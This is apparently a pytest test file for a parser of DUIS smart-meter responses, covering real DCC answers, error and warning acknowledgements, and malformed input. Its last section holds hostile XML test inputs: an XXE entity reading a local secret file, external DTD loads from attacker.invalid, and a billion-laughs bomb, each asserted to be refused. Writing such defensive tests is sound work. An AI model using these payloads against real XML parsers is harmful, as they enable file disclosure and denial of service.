"""DUIS responses and acknowledgements: real DCC test-system answers, built error acks, and attacks."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from app.domain.devices import DeviceType, RecordSource
from app.domain.duis import (
    DuisResponseError,
    ResponseCategory,
    UnsafeXmlError,
    categorise_code,
    parse_request_id,
    parse_response,
)
from app.domain.errors import DomainInputError
from app.domain.ids import parse_device_id
from app.domain.smets import Generation
from tests.duis_helpers import schema_for

SR = "http://www.dccinterface.co.uk/ServiceUserGateway"


def _response(shared_dir: Path, name: str) -> bytes:
    return (shared_dir / "duis" / "responses" / name).read_bytes()


def _ack(code: str, srv: str = "11.2", request_id: str | None = None, payload: str = "") -> bytes:
    """An unsigned response of the shape the DCC sends; RequestID optional as in the XSD."""
    rid = f"<sr:RequestID>{request_id}</sr:RequestID>" if request_id else ""
    reference = srv if srv.count(".") < 2 else srv.rsplit(".", 1)[0]
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<sr:Response xmlns:sr="{SR}" schemaVersion="5.4">'
        f"<sr:Header>{rid}<sr:ResponseCode>{code}</sr:ResponseCode>"
        f"<sr:ResponseDateTime>2026-03-14T09:30:01.250Z</sr:ResponseDateTime></sr:Header>"
        f"<sr:Body><sr:ResponseMessage><sr:ServiceReference>{reference}</sr:ServiceReference>"
        f"<sr:ServiceReferenceVariant>{srv}</sr:ServiceReferenceVariant>{payload}"
        f"</sr:ResponseMessage></sr:Body></sr:Response>"
    ).encode()


# --- the two real responses --------------------------------------------------------------------


def test_read_inventory_response(shared_dir: Path) -> None:
    answer = parse_response(_response(shared_dir, "read-inventory-response-5.4.xml"))
    assert answer.response_code == "I0"
    assert answer.is_success and answer.category is ResponseCategory.SUCCESS
    assert answer.srv == "8.2" and answer.service_reference == "8.2"
    assert answer.schema_version == "5.4"
    assert str(answer.request_id) == "90-B3-D5-1F-30-01-00-00:90-B3-D5-1F-30-00-00-02:1766940660265"
    assert answer.response_id is None
    assert answer.response_datetime == "2025-12-28T16:51:01.185Z"
    assert answer.payload_kind == "DSPInventory"
    assert [d.device_type for d in answer.inventory] == ["CHF", "CAD", "GPF"]

    chf, cad, gpf = answer.inventory
    assert chf.device_id == parse_device_id("88-73-84-90-6A-10-02-DB")
    assert (chf.device_status, chf.manufacturer, chf.model) == ("Commissioned", "106C", "433100AC")
    assert (chf.smets_chts_version, chf.firmware_version) == ("CHTS V1.4", "9001")
    assert (chf.firmware_version_status, chf.cpl_status) == ("Active", "Active")
    assert (chf.csp_region, chf.connectivity, chf.gbcs_version) == ("4G Central", "Virtual", "4.2")
    assert chf.han_variant == "Single Band"
    assert chf.date_commissioned == "2025-12-28Z"
    assert (chf.uprn, chf.postcode, chf.address_identifier) == ("123456789012", "1111-111", "12334")
    assert chf.s1sp is None and not chf.has_s1sp
    assert chf.import_mpxn is None

    assert cad.device_status is None and cad.smets_chts_version is None and cad.firmware_version is None
    assert (cad.manufacturer, cad.model, cad.csp_region) == ("GEO", "9001", "Central")
    assert gpf.device_status == "InstalledNotCommissioned"

    record = chf.to_device_record()
    assert record.source is RecordSource.INVENTORY
    assert record.device_type is DeviceType.CHF
    assert (record.smi_status, record.cpl_status, record.csp_region) == ("Commissioned", "Active", "4G Central")
    assert record.generation is Generation.SMETS2_PLUS

    as_dict = answer.to_dict()
    assert as_dict["category"] == "success"
    assert as_dict["inventory"][1]["device_id"] == "BC-6E-76-FE-00-7C-B4-F3"  # type: ignore[index]


def test_read_firmware_response(shared_dir: Path) -> None:
    answer = parse_response(_response(shared_dir, "readfw-response.xml"))
    assert answer.response_code == "I0" and answer.is_success
    assert answer.srv == "11.2"
    assert answer.schema_version == "5.1"
    assert answer.request_id is not None
    assert answer.response_id == answer.request_id.response_id
    assert answer.response_id == "88-73-84-57-00-2F-96-1E:90-B3-D5-1F-30-01-00-00:1660751141087"
    assert answer.payload_kind == "GBCSPayload"
    assert answer.gbcs_payload is not None and answer.gbcs_payload.startswith("3QAAAAAAAFUR")
    assert answer.inventory == ()
    assert answer.answers(answer.request_id)
    assert not answer.answers(parse_request_id("90-B3-D5-1F-30-01-00-00:88-73-84-57-00-2F-96-1E:1"))


def test_a_response_without_request_id_is_matched_by_its_response_id() -> None:
    xml = _ack("I99", "8.7.2").replace(
        b"<sr:Header>", b"<sr:Header><sr:ResponseID>00-DB-12-34-56-78-90-A4:90-B3-D5-1F-30-01-00-00:7</sr:ResponseID>"
    )
    answer = parse_response(xml)
    assert answer.request_id is None
    assert answer.answers(parse_request_id("90-B3-D5-1F-30-01-00-00:00-db-12-34-56-78-90-a4:7"))
    assert not answer.answers(parse_request_id("90-B3-D5-1F-30-01-00-00:00-DB-12-34-56-78-90-A4:8"))


def test_real_responses_also_validate(shared_dir: Path, duis_xsd: Path) -> None:
    for name in ("read-inventory-response-5.4.xml", "readfw-response.xml"):
        assert schema_for(duis_xsd).validate(_response(shared_dir, name)) == []


# --- acknowledgements built here --------------------------------------------------------------


def test_error_acknowledgement(duis_xsd: Path) -> None:
    xml = _ack("E65", "11.2")
    assert schema_for(duis_xsd).validate(xml) == []
    answer = parse_response(xml)
    assert answer.response_code == "E65"
    assert answer.is_error and not answer.is_success and answer.category is ResponseCategory.ERROR
    assert answer.request_id is None and answer.response_id is None
    assert answer.srv == "11.2" and answer.service_reference == "11.2"
    assert answer.payload_kind is None


def test_sr_specific_error_and_warning_and_i99(duis_xsd: Path) -> None:
    rid = "90-B3-D5-1F-30-01-00-00:00-DB-12-34-56-78-90-A2:1002"
    error = _ack("E081101", "8.11", rid)
    warning = _ack("W081401", "8.14.1", "90-B3-D5-1F-30-01-00-00:90-B3-D5-1F-30-00-00-02:5")
    ack = _ack("I99", "8.7.2", "90-B3-D5-1F-30-01-00-00:00-DB-12-34-56-78-90-A4:7")
    for xml in (error, warning, ack):
        assert schema_for(duis_xsd).validate(xml) == []
    assert parse_response(error).is_error
    assert str(parse_response(error).request_id) == rid
    parsed_warning = parse_response(warning)
    assert parsed_warning.is_warning and parsed_warning.srv == "8.14.1" and parsed_warning.service_reference == "8.14"
    parsed_ack = parse_response(ack)
    assert parsed_ack.is_acknowledgement and parsed_ack.category is ResponseCategory.ACKNOWLEDGEMENT


def test_smets1_inventory_device_is_recognised() -> None:
    device = (
        "<sr:DSPInventory><sr:Device><sr:DeviceID>00-11-22-33-44-55-66-77</sr:DeviceID>"
        "<sr:DeviceType>PPMID</sr:DeviceType><sr:DeviceStatus>Pending</sr:DeviceStatus>"
        "<sr:DeviceManufacturer>10E0</sr:DeviceManufacturer><sr:DeviceModel>00090100</sr:DeviceModel>"
        "<sr:DeviceFirmwareVersion>00010001</sr:DeviceFirmwareVersion>"
        "<sr:ImportMPxN>1234567890123</sr:ImportMPxN>"
        "<sr:CSPRegion>SMETS1</sr:CSPRegion><sr:S1SP>S1SP-A</sr:S1SP></sr:Device></sr:DSPInventory>"
    )
    answer = parse_response(_ack("I0", "8.2", payload=device))
    (ppmid,) = answer.inventory
    assert ppmid.has_s1sp and ppmid.s1sp == "S1SP-A"
    assert ppmid.import_mpxn == "1234567890123"
    assert "1234567890123" not in repr(ppmid)
    assert ppmid.to_device_record().generation is Generation.SMETS1


@pytest.mark.parametrize(
    ("code", "category"),
    [("I0", "success"), ("I99", "acknowledgement"), ("E1", "error"), ("E080405", "error"), ("W110401", "warning")],
)
def test_categorise_code(code: str, category: str) -> None:
    assert categorise_code(code).value == category


# --- malformed and hostile input ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("xml", "message"),
    [
        (b"", "not well-formed"),
        (b"<sr:Response", "not well-formed"),
        (b"<Request/>", "not a DUIS response"),
        (f'<sr:Response xmlns:sr="{SR}" schemaVersion="5.4"><sr:Body/></sr:Response>'.encode(), "no Header"),
        (_ack("I0").replace(b"<sr:ResponseCode>I0</sr:ResponseCode>", b""), "no ResponseCode"),
        (_ack("X5"), "unknown DUIS response code"),
        (_ack("I0", request_id="nonsense"), "RequestID is malformed"),
        (_ack("I0", "8.2", payload="<sr:DSPInventory><sr:Device><sr:DeviceID>zz</sr:DeviceID><sr:DeviceType>CHF</sr:DeviceType></sr:Device></sr:DSPInventory>"), "bad DeviceID"),
    ],
)
def test_malformed_responses_are_refused(xml: bytes, message: str) -> None:
    with pytest.raises(DuisResponseError, match=message) as info:
        parse_response(xml)
    assert isinstance(info.value, DomainInputError)


def test_external_entity_xxe_is_refused(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-INSTALL-CODE")
    xml = (
        f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]>'
        f'<sr:Response xmlns:sr="{SR}" schemaVersion="5.4"><sr:Header>'
        f"<sr:ResponseCode>&xxe;</sr:ResponseCode><sr:ResponseDateTime>2026-01-01T00:00:00Z</sr:ResponseDateTime>"
        f"</sr:Header><sr:Body/></sr:Response>"
    ).encode()
    with pytest.raises(UnsafeXmlError, match="DOCTYPE") as info:
        parse_response(xml)
    assert "TOP-SECRET" not in str(info.value)


def test_external_dtd_and_parameter_entities_are_refused() -> None:
    for prolog in (
        '<!DOCTYPE r SYSTEM "http://attacker.invalid/evil.dtd">',
        '<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>',
    ):
        with pytest.raises(UnsafeXmlError, match="refused"):
            parse_response((prolog + _ack("I0").decode().split("?>", 1)[1]).encode())


def test_billion_laughs_is_refused_quickly() -> None:
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    )
    xml = f"<!DOCTYPE lolz [{entities}]><lolz>&lol9;</lolz>".encode()
    started = time.perf_counter()
    with pytest.raises(UnsafeXmlError, match="refused"):
        parse_response(xml)
    assert time.perf_counter() - started < 2.0


def test_oversized_documents_are_refused() -> None:
    with pytest.raises(UnsafeXmlError, match="at most"):
        parse_response(b"<a>" + b"x" * 3_000_000 + b"</a>")


def test_text_input_is_accepted() -> None:
    assert parse_response(_ack("I0").decode()).is_success
